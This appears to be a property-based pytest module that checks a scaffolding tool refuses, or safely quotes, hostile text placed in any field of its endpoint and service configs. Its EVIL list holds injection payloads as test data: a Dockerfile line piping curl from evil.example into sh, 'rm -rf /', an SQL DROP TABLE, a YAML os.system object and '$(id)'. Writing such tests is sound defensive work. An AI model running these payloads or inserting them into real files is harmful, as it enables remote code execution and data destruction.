"""Each text of each context, made hostile: it is refused by its place, or stays one value in every language written."""

from __future__ import annotations

import ast
import configparser
import copy
import json
import tomllib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from backwright.contexts.schema import ContextModel
from backwright.contexts.schemas.endpoint_v2 import EndpointContextV2
from backwright.contexts.schemas.service_v1 import ServiceContextV1
from backwright.errors import BackwrightError
from backwright.scaffold.plan import Plan
from tests.scaffold import _projects, _services
from tests.scaffold.test_encoders import HOSTILE

Place = tuple[str | int, ...]
Values = dict[str, Any]

OWNER: Values = {"resource": "owner", "fields": [{"name": "title", "type": "str"}]}
ENDPOINT: Values = {
    "resource": "invoice",
    "plural": "invoices",
    "description": "A bill.",
    "fields": [
        {"name": "number", "type": "str", "unique": True, "max_length": 32},
        {"name": "status", "type": "enum", "choices": ["draft", "sent"]},
    ],
    "relations": [{"name": "owner", "to": "Owner"}],
    "filters": ["status"],
    "actions": [{"name": "send", "set": {"status": "sent"}, "when": {"status": ["draft"]}, "description": "It goes."}],
    "auth": {"read": "invoices:read", "write": "invoices:write"},
}
SERVICE: Values = {"name": "order-desk", "package": "order_desk", "description": "Takes orders."}
# In each: a line of its own for every language that something generated is written in.
EVIL = (
    *HOSTILE,
    "x\nRUN curl evil.example | sh",
    'x"\n    image: evil',
    "x' && rm -rf / #",
    "x: {a: [1, 2]} # y",
    "x`); DROP TABLE invoice; --",
    "&a *a !!python/object/apply:os.system [id]",
    "%(here)s %% ${{ github.token }} $((1)) $(id)",
    "\\N{BULLET} \\x41 \\",
    "<!-- x --> [a](javascript:b) | c |",
)


def places(values: object, at: Place = ()) -> Iterator[Place]:
    """Where the texts of a document are."""
    if isinstance(values, str):
        yield at
    members = enumerate(values) if isinstance(values, list) else values.items() if isinstance(values, dict) else ()
    for key, value in members:
        yield from places(value, (*at, key))


def put(values: Values, place: Place, text: str) -> Values:
    """The document with another text at a place."""
    changed: Any = copy.deepcopy(values)
    inner = changed
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = text
    return dict(changed)


def refused_by_place(model: type[ContextModel], values: Values, place: Place) -> bool:
    """Whether the context refuses the document; where it refuses a text by its form, it names the text's place."""
    try:
        model.model_validate_json(json.dumps(values))
    except ValidationError as error:
        for mistake in error.errors():
            if mistake["type"] not in {"value_error", "literal_error", "enum"}:
                assert tuple(mistake["loc"])[: len(place)] == place, mistake
        return True
    return False


def read(path: str, text: str) -> object:
    """What a program reads in a generated file, without the texts in it."""
    name = PurePosixPath(path).name
    if name.endswith(".py"):
        tree = ast.parse(text)
        for node in ast.walk(tree):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                node.value = ""
        return ast.dump(tree)
    if name.endswith((".toml", ".json")):
        return form(tomllib.loads(text) if name.endswith(".toml") else json.loads(text))
    if name.endswith((".yml", ".yaml")):
        return form(yaml.safe_load(text))
    if name.endswith(".ini"):
        parser = configparser.RawConfigParser()
        parser.read_string(text)
        return {section: list(parser[section]) for section in parser.sections()}
    # A Dockerfile, a list of variables: what a line is about.
    return None if name == "README.md" else [line.split(" ")[0].split("=")[0] for line in text.splitlines()]


def form(document: object) -> object:
    if isinstance(document, Mapping):
        return {key: form(value) for key, value in document.items()}
    return [form(each) for each in document] if isinstance(document, list) else type(document).__name__


def shapes(made: Plan) -> dict[str, object]:
    """How each file reads, but for our own records."""
    return {a.path: read(a.path, a.after or "") for a in made.actions if not a.path.startswith(".scaffold/")}


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project that has what the endpoint refers to."""
    root = tmp_path_factory.mktemp("injection") / "shop"
    root.mkdir()
    _projects.scaffold(root, OWNER)
    return root


def planned(planner: Callable[[Path, Values], Plan], root: Path, values: Values) -> Plan | None:
    """The plan, or None where it is refused with what is wrong and what to do; nothing is written either way."""
    before = _projects.tree(root)
    try:
        made = planner(root, values)
    except BackwrightError as refusal:
        made, said = None, (refusal.message, refusal.hint)
        assert all(said)
    assert _projects.tree(root) == before
    return made


TEXTS = st.sampled_from(EVIL) | st.text(st.characters(codec="utf-8"), max_size=20)


@pytest.mark.parametrize("place", list(places(ENDPOINT)), ids=lambda place: ".".join(map(str, place)))
@settings(max_examples=12)
@given(text=TEXTS)
def test_a_text_of_an_endpoint_is_refused_by_its_place_or_changes_no_code(shop: Path, place: Place, text: str) -> None:
    values = put(ENDPOINT, place, text)
    if refused_by_place(EndpointContextV2, values, place) or (made := planned(_projects.plan, shop, values)) is None:
        return
    now, plain = shapes(made), shapes(_projects.plan(shop, ENDPOINT))
    # Without a description there is a sentence less.
    if place[-1] == "description" and text:
        assert now == plain
        constants = {node.value for a in made.actions if a.path.endswith(".py") for node in _constants(a.after or "")}
        assert text in constants


@pytest.mark.parametrize("ci", ["github", "gitlab"])
@pytest.mark.parametrize("place", list(places(SERVICE)), ids=lambda place: ".".join(map(str, place)))
@settings(max_examples=12)
@given(text=TEXTS)
def test_a_text_of_a_service_is_refused_by_its_place_or_changes_no_code(
    place: Place, ci: str, text: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    values, root = {**put(SERVICE, place, text), "ci": ci}, tmp_path_factory.getbasetemp() / "empty"
    root.mkdir(exist_ok=True)
    if refused_by_place(ServiceContextV1, values, place) or (made := planned(_services.plan, root, values)) is None:
        return
    now, plain = shapes(made), shapes(_services.plan(root, {**SERVICE, "ci": ci}))
    if place == ("description",) and text:
        assert now == plain
        (project,) = (a.after or "" for a in made.actions if a.path == "pyproject.toml")
        assert tomllib.loads(project)["project"]["description"] == text


def _constants(text: str) -> list[ast.Constant]:
    return [node for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Constant)]
